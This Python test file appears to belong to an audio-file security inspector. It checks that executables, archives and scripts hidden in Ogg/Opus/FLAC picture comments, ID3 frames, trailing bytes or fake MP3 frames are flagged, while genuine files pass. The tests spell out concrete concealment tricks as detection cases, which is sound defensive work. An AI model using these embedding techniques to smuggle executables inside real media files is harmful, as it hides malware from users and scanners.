    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_image(n: int = 6000) -> bytes:
    """A JPEG by its structure (ITU T.81): SOI, a JFIF APP0, SOS, entropy-coded bytes (noise,
    0xFF stuffed with 0x00), EOI."""
    body = np.random.default_rng(6).bytes(n).replace(b"\xff", b"\xff\x00")
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + sos + body + b"\xff\xd9"


def comment_block(comments: list[bytes], vendor: bytes = b"test vendor") -> bytes:
    """A Vorbis comment structure (as in a FLAC VORBIS_COMMENT block, no framing bit)."""
    out = struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", len(comments))
    return out + b"".join(struct.pack("<I", len(c)) + c for c in comments)


def picture_comment(image: bytes, mime: str = "image/jpeg") -> bytes:
    return b"METADATA_BLOCK_PICTURE=" + base64.b64encode(flac_picture(image, mime.encode()))


def comment_offset(data: bytes, key: bytes = b"metadata_block_picture=") -> int:
    return data.lower().index(key.lower())


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        ("pe", "container.embedded_executable"),
        ("elf", "container.embedded_executable"),
        ("zip", "container.embedded_archive"),
        ("gzip", "container.embedded_archive"),
        ("shell", "container.embedded_script"),
    ],
)
def test_vorbis_picture_comment_carrying_a_payload_is_flagged(payload: str, code: str) -> None:
    data = threats.add_vorbis_picture(encoded("ogg"), threats.make_payload(payload, 3000))
    report = inspect(data)
    evidence = only(report, code)
    assert evidence["offset"] == comment_offset(data)
    assert evidence["where"] == "vorbis comment packet METADATA_BLOCK_PICTURE"
    assert worst(report) == Severity.MALICIOUS


def test_vorbis_picture_of_random_bytes_is_embedded_data() -> None:
    data = threats.add_vorbis_picture(encoded("ogg"), threats.make_payload("random", 4000))
    evidence = only(inspect(data), "container.embedded_data")
    assert (evidence["picture_size"], evidence["payload_kind"]) == (4000, "high_entropy")


@pytest.mark.parametrize(("image", "mime"), [(png_image, "image/png"), (jpeg_image, "image/jpeg")])
def test_genuine_cover_art_in_a_vorbis_comment_is_clean(image: object, mime: str) -> None:
    data = threats.add_vorbis_picture(encoded("ogg"), image(), mime=mime)  # type: ignore[operator]
    report = inspect(data)
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]


def test_picture_comment_spanning_several_ogg_pages_is_reassembled() -> None:
    payload = threats.make_payload("elf", 200_000)
    data = threats.add_vorbis_picture(encoded("ogg"), payload)
    pages = ogg_pages(data)
    start = comment_offset(data)
    assert sum(start < p < start + 250_000 for p in pages) >= 3  # the packet spans 4+ pages
    evidence = only(inspect(data), "container.embedded_executable")
    assert (evidence["offset"], evidence["picture_size"]) == (start, len(payload))


def test_payload_after_a_cover_on_a_later_page_is_found() -> None:
    # A real image first, the executable behind it: only the reassembled packet shows the ELF.
    image = jpeg_image() * 12 + threats.make_payload("elf", 2000)
    data = threats.add_vorbis_picture(encoded("ogg"), image)
    evidence = only(inspect(data), "container.embedded_executable")
    assert evidence["picture_offset"] == len(jpeg_image()) * 12


def test_oversized_vorbis_comment_is_flagged_and_still_identified() -> None:
    data = threats.add_vorbis_picture(encoded("ogg"), threats.make_payload("pe", 120_000))
    report = inspect(data, max_metadata_bytes=8192)
    oversized = [f.evidence for f in report.findings if f.code == "container.oversized_metadata"]
    assert {"ogg header packet", "vorbis comment packet METADATA_BLOCK_PICTURE"} <= {
        e["where"] for e in oversized
    }
    assert "container.embedded_executable" in codes(report)
    assert "container.size_mismatch" not in codes(report)  # cut by the read bound, not a lie


def test_opus_comment_picture_is_checked() -> None:
    from mutagen.oggopus import OggOpus

    buf = io.BytesIO(encoded("opus"))
    tags = OggOpus(buf)  # type: ignore[no-untyped-call]
    tags["metadata_block_picture"] = [base64.b64encode(flac_picture(zip_archive())).decode()]
    buf.seek(0)
    tags.save(buf)
    report = inspect(buf.getvalue())
    assert report.codec == "opus"
    assert only(report, "container.embedded_archive")["where"] == (
        "opus comment packet METADATA_BLOCK_PICTURE"
    )


def test_flac_vorbis_comment_block_picture_and_coverart_are_checked() -> None:
    comments = [b"TITLE=Song", picture_comment(elf()), b"COVERART=" + base64.b64encode(pe())]
    data = flac_with(encoded("flac"), [(4, comment_block(comments))])
    report = inspect(data)
    found = [f.evidence for f in report.findings if f.code == "container.embedded_executable"]
    assert [e["offset"] for e in found] == [
        comment_offset(data),
        comment_offset(data, b"COVERART="),
    ]


def test_flac_vorbis_comment_block_with_genuine_cover_is_clean() -> None:
    comments = [b"TITLE=Song", b"ARTIST=Someone", picture_comment(png_image(), "image/png")]
    report = inspect(flac_with(encoded("flac"), [(4, comment_block(comments))]))
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]


def test_base64_payload_in_an_ordinary_comment_is_flagged() -> None:
    comments = [b"DESCRIPTION=" + base64.b64encode(zip_archive())]
    report = inspect(flac_with(encoded("flac"), [(4, comment_block(comments))]))
    assert only(report, "container.embedded_archive")["encoding"] == "base64"


def test_comment_length_past_its_block_is_a_size_mismatch() -> None:
    block = comment_block([b"TITLE=Song"])
    block = block[:-14] + struct.pack("<I", 5000) + block[-10:]
    report = inspect(flac_with(encoded("flac"), [(4, block)]))
    assert only(report, "container.size_mismatch")["declared"] == 5000


def test_picture_structure_whose_data_length_lies_is_a_size_mismatch() -> None:
    picture = bytearray(flac_picture(jpeg_image()))
    picture[-len(jpeg_image()) - 4 : -len(jpeg_image())] = struct.pack(">I", 99)
    comment = b"METADATA_BLOCK_PICTURE=" + base64.b64encode(bytes(picture))
    report = inspect(flac_with(encoded("flac"), [(4, comment_block([comment]))]))
    assert only(report, "container.size_mismatch")["declared"] == 99


# -- MPEG ------------------------------------------------------------------------------------


def test_mp3_with_id3v2_id3v1_and_ape_tags_is_clean() -> None:
    ape_item = struct.pack("<II", 5, 0) + b"Title\x00" + b"Hello"
    ape_footer = b"APETAGEX" + struct.pack("<IIII", 2000, 32 + len(ape_item), 1, 0) + bytes(8)
    data = (
        id3v23([(b"TIT2", b"\x00Song"), (b"APIC", b"\x00image/png\x00\x03\x00" + png_image())], 256)
        + encoded("mp3")
        + ape_item
        + ape_footer
        + b"TAG" + bytes(125)
    )  # fmt: skip
    report = inspect(data)
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]
    assert report.audio_end == len(data)
    assert {"id3v2.3", "apev2", "id3v1"} <= {s.name for s in report.segments}


def test_payload_between_the_last_frame_and_the_id3v1_tag_is_trailing() -> None:
    clean = encoded("mp3")
    report = inspect(clean + elf() + b"TAG" + bytes(125))
    trailing = only(report, "container.trailing_data")
    assert (trailing["offset"], trailing["size"]) == (len(clean), len(elf()))
    assert "container.embedded_executable" in codes(report)


@pytest.mark.parametrize(
    ("frame", "content", "code"),
    [
        (b"APIC", b"\x00image/jpeg\x00\x03\x00" + zip_archive(), "container.embedded_archive"),
        (b"GEOB", b"\x00application/x\x00a.bin\x00\x00" + elf(), "container.embedded_executable"),
        (b"PRIV", b"owner@example\x00" + pe(), "container.embedded_executable"),
        (b"XYZZ", script(), "container.embedded_script"),
    ],
)
def test_id3v2_frames_carrying_payloads_are_flagged(
    frame: bytes, content: bytes, code: str
) -> None:
    report = inspect(id3v23([(frame, content)]) + encoded("mp3"))
    assert report.format == "mp3"
    assert code in codes(report)


def test_oversized_id3v2_tag_is_flagged() -> None:
    data = id3v23([(b"TXXX", b"\x00big\x00" + b"a" * 5000)]) + encoded("mp3")
    report = inspect(data, max_metadata_bytes=4096)
    assert "container.oversized_metadata" in codes(report)


def test_large_junk_between_mp3_frames_is_embedded_data() -> None:
    clean = encoded("mp3_44k")
    frames = mp3_frames(clean)
    cut = frames[len(frames) // 2]
    report = inspect(clean[:cut] + noise() + clean[cut:])
    assert only(report, "container.embedded_data")["offset"] == cut
    assert report.audio_end == len(clean) + len(noise())


def test_a_few_stray_bytes_between_mp3_frames_are_tolerated() -> None:
    clean = encoded("mp3_44k")
    frames = mp3_frames(clean)
    cut = frames[len(frames) // 2]
    report = inspect(clean[:cut] + b"\x00\x01\x02" + clean[cut:])
    assert worst(report) == Severity.INFO


def test_payload_disguised_as_a_last_mp3_frame_is_found() -> None:
    clean = encoded("mp3_44k")
    frames = mp3_frames(clean)
    header = clean[frames[1] : frames[1] + 4]  # a real frame header in front of an executable
    report = inspect(clean + header + elf())
    assert only(report, "container.embedded_executable")["offset"] == len(clean) + 4
    assert only(report, "container.trailing_data")["offset"] == len(clean) + frames[2] - frames[1]


# -- tools other than libsndfile -------------------------------------------------------------


def _tool(args: list[str], tmp_path: Path, out: str) -> bytes:
    if shutil.which(args[0]) is None:
        pytest.skip(f"{args[0]} not installed")
    src = tmp_path / "in.wav"
    src.write_bytes(encoded("wav"))
    subprocess.run([a.replace("IN", str(src)).replace("OUT", str(tmp_path / out)) for a in args], check=True, capture_output=True)  # fmt: skip
    return (tmp_path / out).read_bytes()


@pytest.mark.parametrize(
    ("args", "out", "fmt"),
    [
        (["flac", "-s", "-f", "-o", "OUT", "IN"], "a.flac", "flac"),
        (
            ["lame", "--silent", "--add-id3v2", "--tt", "T", "--ta", "A", "IN", "OUT"],
            "a.mp3",
            "mp3",
        ),
        (["oggenc", "-Q", "-t", "T", "-o", "OUT", "IN"], "a.ogg", "ogg"),
        (["sox", "IN", "OUT"], "a.aiff", "aiff"),
        (["ffmpeg", "-v", "error", "-i", "IN", "-metadata", "title=T", "OUT"], "a.wav", "wav"),
        (["ffmpeg", "-v", "error", "-i", "IN", "-rf64", "always", "OUT"], "rf64.wav", "wav"),
        (["ffmpeg", "-v", "error", "-i", "IN", "-c:a", "libopus", "OUT"], "a.opus", "ogg"),
    ],
)
def test_files_from_common_encoders_are_clean_and_payloads_found(
    args: list[str], out: str, fmt: str, tmp_path: Path
) -> None:
    data = _tool(args, tmp_path, out)
    report = inspect(data)
    assert report.format == fmt
    assert worst(report) == Severity.INFO, [f.message for f in report.findings]
    assert report.audio_end == len(data)
    report = inspect(data + zip_archive())
    assert "container.embedded_archive" in codes(report)


# -- bounded memory and speed ----------------------------------------------------------------


class VirtualFile(io.RawIOBase):
    """A huge file of ``head`` + zeros + ``tail`` that exists only as reads, counting them."""

    def __init__(self, head: bytes, zeros: int, tail: bytes = b"") -> None:
        self.head, self.zeros, self.tail = head, zeros, tail
        self.size = len(head) + zeros + len(tail)
        self.pos = 0
        self.bytes_read = 0

    def seekable(self) -> bool:
        return True

    def readable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        self.pos = {0: offset, 1: self.pos + offset, 2: self.size + offset}[whence]
        return self.pos

    def read(self, n: int = -1) -> bytes:
        n = self.size - self.pos if n < 0 else min(n, self.size - self.pos)
        out = bytearray()
        p = self.pos
        end = p + n
        h, z = len(self.head), len(self.head) + self.zeros
        if p < h:
            out += self.head[p : min(end, h)]
        if end > h and p < z:
            out += bytes(min(end, z) - max(p, h))
        if end > z:
            out += self.tail[max(p, z) - z : end - z]
        self.pos = end
        self.bytes_read += len(out)
        return bytes(out)


def test_one_hour_wav_is_inspected_with_bounded_reads() -> None:
    frames = 3600 * 44100
    head = riff([(b"fmt ", fmt_pcm16(2, 44100))])
    head = head[:4] + struct.pack("<I", len(head) - 8 + 8 + frames * 4) + head[8:]
    head += b"data" + struct.pack("<I", frames * 4)
    stream = VirtualFile(head, frames * 4, elf())
    report = inspect_container(stream)  # type: ignore[arg-type]
    assert report.frames == frames
    assert only(report, "container.trailing_data")["offset"] == len(head) + frames * 4
    assert "container.embedded_executable" in codes(report)
    assert stream.bytes_read < 2 << 20


def test_ten_megabyte_mp3_is_walked_to_its_last_frame() -> None:
    clean = encoded("mp3_44k", seconds=2.0)
    first = mp3_frames(clean)[1]  # after the Xing frame
    body = clean[first:]
    data = clean[:first] + body * (10_000_000 // len(body))
    report = inspect(data + elf())
    assert only(report, "container.trailing_data")["offset"] == len(data)


def test_bytes_given_mp3_frame_headers_break_the_bit_reservoir() -> None:
    """A file's bytes cut into frame bodies behind valid Layer III headers declare random main
    data lengths and back-pointers: the encoder's bit account breaks in nearly every frame."""
    clean = encoded("mp3_44k", seconds=2.0)
    assert "container.nonconforming_stream" not in codes(inspect(clean))
    offsets = mp3_frames(clean)
    header = clean[offsets[1] : offsets[1] + 4]  # an audio frame's: 128 kb/s, no padding
    length = offsets[2] - offsets[1]
    body = np.random.default_rng(14).bytes((length - 4) * 60)
    fake = b"".join(header + body[i : i + length - 4] for i in range(0, len(body), length - 4))
    report = inspect(fake)
    evidence = only(report, "container.nonconforming_stream")
    assert evidence["frames"] == 60 and float(str(evidence["broken_share"])) > 0.5
    assert worst(report) is Severity.MALICIOUS


def test_bytes_in_frames_that_declare_empty_granules_are_ancillary_data() -> None:
    """All-zero side information keeps the account (every frame valid and empty), so the
    frames' main data is ancillary: an encoder's fill repeats a short pattern, a payload does
    not (encrypted: rejected past the unaccounted budget; an executable: named)."""
    clean = encoded("mp3_44k", seconds=2.0)
    offsets = mp3_frames(clean)
    header = clean[offsets[1] : offsets[1] + 4]
    body = offsets[2] - offsets[1] - 4 - 32

    def frames(payload: bytes) -> bytes:
        return b"".join(
            header + bytes(32) + payload[i : i + body].ljust(body, b"\0")
            for i in range(0, len(payload), body)
        )

    encrypted = inspect(frames(np.random.default_rng(3).bytes(40_000)))
    assert "container.nonconforming_stream" not in codes(encrypted)
    assert int(str(only(encrypted, "container.unaccounted_data")["high_entropy_bytes"])) >= 40_000
    assert worst(encrypted) is Severity.MALICIOUS
    assert "container.embedded_executable" in codes(inspect(frames(elf() * 20)))
    fill = inspect(frames(b"LAME3.100" + b"U" * 40_000))  # an encoder's stuffing
    assert "container.unaccounted_data" not in codes(fill)


def test_an_mp3_cut_inside_its_bit_reservoir_keeps_its_account() -> None:
    """Cut at a frame boundary (as frame-exact editors cut), the first frame points back into
    bytes that are gone: the account starts there, and the stream is an encoder's."""
    clean = encoded("mp3_44k", seconds=3.0)
    offsets = mp3_frames(clean)
    for cut in (offsets[5], offsets[17], offsets[-30]):
        assert "container.nonconforming_stream" not in codes(inspect(clean[cut:]))
    # two cut pieces joined: one broken frame at the join at most
    joined = clean[offsets[5] : offsets[40]] + clean[offsets[60] :]
    assert "container.nonconforming_stream" not in codes(inspect(joined))


def test_huge_payload_after_a_flac_is_found_without_reading_it() -> None:
    clean = encoded("flac")
    stream = VirtualFile(clean + elf(), 600 << 20)
    report = inspect_container(stream)  # type: ignore[arg-type]
    assert only(report, "container.trailing_data")["offset"] == len(clean)
    assert "container.embedded_executable" in codes(report)
    assert stream.bytes_read < 16 << 20


# -- never raises ----------------------------------------------------------------------------

FUZZ = settings(
    max_examples=50,
    deadline=None,  # speed is the benchmark's business; _check only guards against a hang
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
MAGICS = [b"RIFF", b"RIFX", b"RF64", b"FORM", b"fLaC", b"OggS", b"ID3\x03", b"\xff\xfb\x90\x64"]


def _check(data: bytes) -> None:
    start = time.process_time()
    report = inspect(data)
    # A hang guard, not a speed check: a walk of these few kilobytes takes milliseconds, and a
    # parser caught in a loop never ends (CPU time: a busy neighbour must not fail it).
    assert time.process_time() - start < 30.0
    assert 0 <= report.audio_end <= report.size == len(data)
    assert report.format in {"wav", "flac", "ogg", "mp3", "aiff", "unknown", "not_audio", "empty"}
    for f in report.findings:
        f.to_dict()


@FUZZ
@given(st.binary(max_size=4096))
def test_random_bytes_never_raise(data: bytes) -> None:
    _check(data)


@FUZZ
@given(st.sampled_from(MAGICS), st.binary(max_size=2048))
def test_random_bytes_behind_a_magic_never_raise(magic: bytes, data: bytes) -> None:
    head = magic + data[:4] + (b"WAVE" if magic[:2] in (b"RI", b"RF") else b"AIFF") + data[4:]
    _check(head if magic in (b"RIFF", b"RIFX", b"RF64", b"FORM") else magic + data)


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    kind = draw(st.sampled_from(["wav", "flac", "ogg", "opus", "mp3", "aiff"]))
    data = bytearray(encoded(kind, 0.1))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["flip", "cut", "insert", "delete"]))
        at = draw(st.integers(0, max(0, len(data) - 1)))
        if op == "flip" and data:
            data[at] ^= draw(st.integers(1, 255))
        elif op == "cut":
            del data[at:]
        elif op == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=64))
        else:
            del data[at : at + draw(st.integers(1, 64))]
    return bytes(data)


@settings(FUZZ, max_examples=100)
@given(mutated())
def test_mutated_valid_files_never_raise(data: bytes) -> None:
    _check(data)


@FUZZ
@given(st.lists(st.binary(max_size=64), max_size=6), st.binary(max_size=16), st.integers(0, 9))
def test_random_comment_blocks_never_raise(comments: list[bytes], vendor: bytes, cut: int) -> None:
    block = comment_block(comments, vendor)
    _check(flac_with(encoded("flac", 0.1), [(4, block[: len(block) - cut])]))


@pytest.mark.parametrize("maker", [elf, pe, zip_archive])
def test_a_file_written_out_as_pcm_samples_shows_its_header_in_the_data_chunk(
    maker: object,
) -> None:
    payload = maker()  # type: ignore[operator]
    data = payload + bytes(len(payload) % 2)
    report = inspect(riff([(b"fmt ", fmt_pcm16(channels=1)), (b"data", data)]))
    hits = [f for f in report.findings if f.evidence.get("where") == "audio data"]
    assert hits and hits[0].severity == Severity.MALICIOUS
    assert hits[0].code in {"container.embedded_executable", "container.embedded_archive"}
    assert hits[0].evidence["offset"] == 44


def test_ordinary_samples_hold_no_file_header() -> None:
    report = inspect(riff([(b"fmt ", fmt_pcm16()), (b"data", pcm_frames(RATE))]))
    assert not [f for f in report.findings if f.evidence.get("where") == "audio data"]


def test_signatures_are_listed_earliest_first_and_capped() -> None:
    from audiomodel.payload import PayloadKind, find_signatures

    data = bytes(100) + zip_archive() + bytes(50) + elf()
    hits = find_signatures(data)
    names = [name for _, name, _ in hits]
    assert names[0] == "zip" and hits[0][0] == 100 and "elf" in names
    assert hits == sorted(hits)
    repeated = find_signatures(b"PK\x03\x04" * 1000, limit=4)
    assert [offset for offset, _, _ in repeated] == [0, 4, 8, 12]
    pe_hits = find_signatures(bytes(7) + pe())
    assert (7, "pe", PayloadKind.EXECUTABLE) in pe_hits


@pytest.mark.parametrize("limit", [1, 3, 64])
def test_signatures_found_by_prefix_are_those_a_scan_of_every_offset_finds(limit: int) -> None:
    from audiomodel.payload import _MID_STREAM, _PE, _looks_like_pe, find_signatures

    rng = np.random.default_rng(limit)
    noise = rng.integers(0, 256, 60_000, dtype=np.uint8).tobytes()
    # Few candidates (noise with files in it) and many (a file's own repeated structures).
    for data in (noise[:9000] + zip_archive() + noise[9000:] + elf(), b"PK\x03\x04PK" * 700):
        expected = []
        for sig in (*_MID_STREAM, _PE):
            offsets = [
                at
                for at in range(len(data) - 1)
                if data.startswith(sig.magic[:2], at)
                and (_looks_like_pe(data, at) if sig is _PE else data.startswith(sig.magic, at))
            ]
            expected += [(at, sig.name, sig.kind) for at in offsets[:limit]]
        assert find_signatures(data, limit=limit) == sorted(expected)[:limit]
